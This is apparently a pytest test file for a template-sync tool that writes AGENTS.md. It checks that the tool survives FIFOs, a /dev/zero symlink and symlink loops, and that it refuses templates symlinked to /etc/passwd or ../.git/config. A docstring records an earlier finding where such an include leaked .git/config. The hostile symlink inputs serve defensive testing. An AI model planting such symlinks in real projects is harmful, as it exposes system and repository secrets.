@pytest.mark.parametrize("hostile", ["fifo-agents", "fifo-manifest", "zero-manifest", "loop-template"])
def test_sync_over_hostile_inputs_is_one_line_never_a_hang(farm, hostile):
    """A pipe or /dev/zero where sync reads, or a symlink loop in templates/, must not hang or crash it."""
    import sys

    assert capture().code == 0 and run_farm("sync").code == 0
    if hostile == "fifo-agents":
        (farm / "AGENTS.md").unlink()
        os.mkfifo(farm / "AGENTS.md")
    elif hostile == "fifo-manifest":
        (farm / ".farm" / "manifest.json").unlink()
        os.mkfifo(farm / ".farm" / "manifest.json")
    elif hostile == "zero-manifest":
        (farm / ".farm" / "manifest.json").unlink()
        (farm / ".farm" / "manifest.json").symlink_to("/dev/zero")
    else:
        (farm / "templates" / "loop.j2").symlink_to("loop.j2")
    for args in (["sync", "--check"], ["sync"]):
        done = subprocess.run([sys.executable, "-m", "farm", *args], cwd=farm, capture_output=True, text=True, timeout=60)
        assert done.returncode in (0, 1, 2), done.stderr
        assert "Traceback" not in done.stderr and "unexpected error" not in done.stderr


@pytest.mark.parametrize("link", ["../.git/config", "/etc/passwd"])
def test_a_template_symlinked_out_of_templates_is_never_rendered(farm, link):
    """attack round 2, A1: an include of a symlinked template put .git/config into AGENTS.md."""
    assert capture().code == 0
    (farm / "templates" / "x.j2").symlink_to(link)
    (farm / "templates" / "prompt_block.md.j2").write_text(
        '## Rules kept by farm\n{% include "x.j2" %}\n{% for c in corrections -%}\n- {{ c.rule }} <!-- farm:{{ c.id }} -->\n{% endfor %}\n')
    git(farm, "add", "-A")
    git(farm, "commit", "-qm", "tweak")
    before = head(farm)
    for args in (["sync", "--check"], ["sync"]):
        result = run_farm(*args)
        assert result.code == 2 and "points outside templates/" in result.err, result.err
        assert "[core]" not in result.out and "root:" not in result.out
    assert head(farm) == before and "[core]" not in (farm / "AGENTS.md").read_text()


def test_a_template_that_includes_itself_is_one_line(farm):
    (farm / "templates" / "prompt_block.md.j2").write_text('{% include "prompt_block.md.j2" %}\n')
    result = capture()
    assert result.code == 2 and "includes itself" in result.err
